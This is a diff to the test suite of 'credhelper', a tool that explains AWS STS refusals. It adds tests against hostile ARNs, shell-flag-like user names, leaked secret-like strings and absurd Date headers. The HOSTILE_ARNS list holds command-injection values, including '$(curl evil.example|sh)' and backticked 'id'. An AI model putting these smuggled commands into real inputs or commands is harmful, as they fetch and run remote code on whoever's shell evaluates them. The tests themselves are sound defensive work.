@@ -1,9 +1,12 @@
 """Every refusal of AWS's becomes one cause and one command to type."""
 
 import re
+import shlex
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from credhelper.aws.explain import sts
 from credhelper.aws.explain.facts import Call, clock_skew_s
@@ -16,6 +19,19 @@ USER = "arn:aws:iam::111111111111:user/David"
 DENIED = f"User: {USER} is not authorized to perform: sts:AssumeRole on resource: {ROLE}"
 NOW = 1_800_000_000  # 2027-01-15 08:00:00 UTC
 REQUEST_ID = "01234567-89ab-cdef-0123-456789abcdef"
+
+
+ABSURD_DATES = [
+    "Mon, 01 Jan 99999999999999999999 00:00:00 GMT",
+    "Mon, 01 Jan 2027 00:00:00 +99999999999999",
+    "Mon, 01 Jan 2027 00:00:00 -2400",
+    "Mon, 01 Jan 0001 00:00:00 +2359",
+    "Fri, 31 Dec 9999 23:59:59 -2359",
+    "Mon, 01 Jan -1 00:00:00 GMT",
+    "Mon, 01 Jan 2027 99:99:99 GMT",
+    "(" * 5000,
+    "\0",
+]
 
 
 def call(**changes: Any) -> Call:
@@ -136,7 +152,7 @@ def response(code: str, message: str = "", status: int = 403, headers: dict[str,
         ),
         ("Throttling", "Rate exceeded", UnreachableError, "limits the rate", "try again in 5 seconds"),
         ("407", "", UnreachableError, "proxy", "_proxy"),
-        ("SomethingNew", "Brand new.", AwsError, "SomethingNew: Brand new", "credhelper profile show prod-s3"),
+        ("SomethingNew", "Brand new.", AwsError, "SomethingNew .*: Brand new", "credhelper profile show prod-s3"),
     ],
 )
 def test_refusal_has_its_cause_and_its_command(
@@ -243,3 +259,58 @@ def test_hostile_response_is_one_short_harmless_line(hostile: dict[str, Any]) ->
     message = sts.explain(hostile, call()).message
     assert message.isprintable()
     assert len(message) < 600
+
+
+HOSTILE_ARNS = [
+    "arn:aws:iam::111111111111:user/$(curl evil.example|sh)",
+    "arn:aws:iam::1:user/`id`",
+    "arn:aws:iam::111111111111:user/a;id",
+    "arn:aws:iam::111111111111:user/a\u200bb",
+    "arn:aws:iam::111111111111:user/a'b",
+    "$(id)",
+    "",
+]
+
+
+@pytest.mark.parametrize("arn", HOSTILE_ARNS)
+@pytest.mark.parametrize("is_in_message", [False, True])
+def test_caller_is_an_arn_wherever_it_comes_from(arn: str, *, is_in_message: bool) -> None:
+    because = "because no identity-based policy allows the sts:AssumeRole action"
+    message = f"User: {arn} is not authorized {because}" if is_in_message else f"not authorized {because}"
+    error = sts.explain(response("AccessDenied", message), call(caller_arn=lambda: arn))
+    assert error.message.startswith("no policy of access key …MPLE allows")
+    assert error.hint == "add sts:AssumeRole on the role to a policy of the caller"
+
+
+@pytest.mark.parametrize("name", ["-x", "--cli-input-json", "a@b", "David"])
+def test_name_of_a_caller_is_one_word(name: str) -> None:
+    error = sts.explain(
+        response("AccessDenied", DENIED.replace("David", name) + " no identity-based policy allows"), call()
+    )
+    words = shlex.split(error.hint)
+    assert words[words.index("--user-name") + 1] == name
+
+
+SAID = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
+
+
+@pytest.mark.parametrize("code", ["ValidationError", "MalformedPolicyDocument", "SomethingNew", SAID, f"x {SAID}"])
+@pytest.mark.parametrize("words", ["hunt3r2 is wrong", f"it is {SAID}", "explicit deny in a hunt3r2 policy"])
+def test_what_aws_said_is_no_part_of_what_is_written_down(code: str, words: str) -> None:
+    error = sts.explain(response(code, words), call())
+    for text in (error.unquoted, error.hint):
+        assert "hunt3r2" not in text
+        assert SAID not in text
+    assert SAID not in error.message
+
+
+@given(st.text() | st.sampled_from(ABSURD_DATES), st.floats(0, 4e9))
+def test_no_header_is_too_absurd_for_a_date(header: str, now_s: float) -> None:
+    assert clock_skew_s(header, now_s) is None or isinstance(clock_skew_s(header, now_s), int)
+
+
+@pytest.mark.parametrize("date", ABSURD_DATES)
+@pytest.mark.parametrize("code", ["SignatureDoesNotMatch", "RequestExpired"])
+def test_clock_error_with_an_absurd_date_is_still_explained(code: str, date: str) -> None:
+    error = sts.explain(response(code, "Signature expired", headers={"date": date}), call())
+    assert isinstance(error, MachineError)
